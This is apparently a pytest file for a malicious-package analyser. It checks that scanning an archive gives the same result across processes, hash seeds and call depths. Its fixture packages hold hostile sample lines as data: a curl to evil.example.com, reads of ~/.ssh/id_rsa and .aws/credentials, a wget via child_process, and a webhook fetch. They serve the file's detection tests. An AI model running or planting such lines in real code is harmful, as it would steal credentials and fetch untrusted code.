"""The analysis of an archive is the same every time: in one process, and in another process with
a different string-hash seed (set and dict order), whatever the load of the machine."""

from __future__ import annotations

import ast
import base64
import hashlib
import os
import subprocess
import sys
from pathlib import Path

from malgraph.analysis.analyze import analyze_archive, analyze_members
from malgraph.analysis.languages import scan_code
from malgraph.analysis.manifests import read_manifests
from malgraph.analysis.python_code import setup_facts
from malgraph.analysis.scanning import CodeScan
from malgraph.artifacts.archives import Member
from tests.inert_packages import tar_gz

_PAYLOAD = base64.b64encode(hashlib.sha512(b"inert").digest() * 400).decode()
_FILES = {
    "pkg/setup.py": (
        "import os, base64, subprocess as sp\nfrom setuptools import setup\n"
        f"blob = '{_PAYLOAD}'\n"
        "sp.call(['curl', 'http://evil.example.com/x'])\n"
        "setup(name='pkg', version='1.0', install_requires=['requests>=2', 'six'])\n"
    ).encode(),
    "pkg/pkg/__init__.py": b"import socket, os\nos.environ['HOME']\nopen('~/.ssh/id_rsa')\n",
    "pkg/pkg/old.py": b'print "python 2"\nimport os\nos.system("id")\n' * 50,
    "pkg/js/index.js": (
        b"const cp = require('child_process');\ncp.exec('wget 1.2.3.4/a');\n"
        b"var x = a" + b".eval" * 3000 + b";\nfetch('https://hooks.slack.com/services/T/B/C');\n"
    ),
    "pkg/js/garbage.js": bytes(range(32, 127)) * 200 + b"(((({[[[" * 500,
    "pkg/lib/tool.rb": b"require 'net/http'\nsystem('ls')\n`whoami`\nFile.read('.aws/credentials')",
    "pkg/package.json": b'{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node x"}}',
    "pkg/PKG-INFO": b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
}


def _analysis_text(data: bytes) -> str:
    return repr(analyze_archive(data, "pkg-1.0.tar.gz"))


def test_the_same_archive_gives_the_same_analysis_in_and_across_processes(tmp_path: Path) -> None:
    data = tar_gz(_FILES)
    first = _analysis_text(data)
    assert first == _analysis_text(data)
    assert "id_rsa" in first and "child_process" in first  # the scan did run
    archive = tmp_path / "pkg-1.0.tar.gz"
    archive.write_bytes(data)
    script = (
        "import sys\nfrom pathlib import Path\n"
        "from malgraph.analysis.analyze import analyze_archive\n"
        "print(repr(analyze_archive(Path(sys.argv[1]).read_bytes(), 'pkg-1.0.tar.gz')), end='')\n"
    )
    for seed in ("1", "4242"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        other = subprocess.run(
            [sys.executable, "-c", script, str(archive)],
            env=env,
            capture_output=True,
            text=True,
            check=True,
        )
        assert other.stdout == first


def test_a_deeply_nested_file_is_cut_at_the_same_point_every_time() -> None:
    text = "var x = a" + ".eval" * 60_000 + ";\n" + "eval(y);\n" * 100
    first = scan_code("deep.js", text, "javascript")
    assert any("work budget (deep nesting)" in p for p in first.problems)
    assert scan_code("deep.js", text, "javascript") == first


def test_setup_py_is_parsed_once_and_its_walk_feeds_the_manifest_reader(
    parsed_sources: list[str],
) -> None:
    setup = b"import os\nfrom setuptools import setup\nsetup(name='p', install_requires=['six'])\n"
    features = analyze_members([Member("p/setup.py", setup)])
    assert parsed_sources == [setup.decode()]
    assert [d.name for d in features.dependencies] == ["six"]
    # The reader takes the facts it is given: those of other text show that it read them.
    other = ast.parse("from setuptools import setup\nsetup(name='p', install_requires=['attrs'])")
    member = Member("p/setup.py", setup)
    scan = read_manifests([member], {member: setup_facts(other)})
    assert [d.name for d in scan.dependencies] == ["attrs"]


def _scan_at_depth(frames: int, text: str) -> object:
    if frames:
        return _scan_at_depth(frames - 1, text)
    return scan_code("deep.py", text, "python")


def test_a_deeply_nested_python_file_reads_the_same_at_any_call_depth() -> None:
    # ast's recursion limit counts the caller's frames: the scan gives each parse the same room.
    text = "x = " + "-" * 2500 + "1\nimport os\nos.system('id')\n"
    shallow = _scan_at_depth(0, text)
    assert shallow == _scan_at_depth(700, text)
    assert isinstance(shallow, CodeScan) and shallow.problems == ()
    assert [f.api for f in shallow.findings] == ["os.system"]


def test_two_setup_py_files_at_one_path_each_give_their_own_manifest() -> None:
    """A tar may hold one path twice: each file's manifest is read from its own walk."""
    first = b"from setuptools import setup\nsetup(name='g', install_requires=['x'])\n"
    second = b"setup = lambda **k: None\nsetup(name='shadow', install_requires=['s'])\n"
    features = analyze_members([Member("p/setup.py", first), Member("p/setup.py", second)])
    alone = [analyze_members([Member("p/setup.py", text)]) for text in (first, second)]
    assert sorted(d.name for d in features.dependencies) == sorted(
        d.name for one in alone for d in one.dependencies
    )
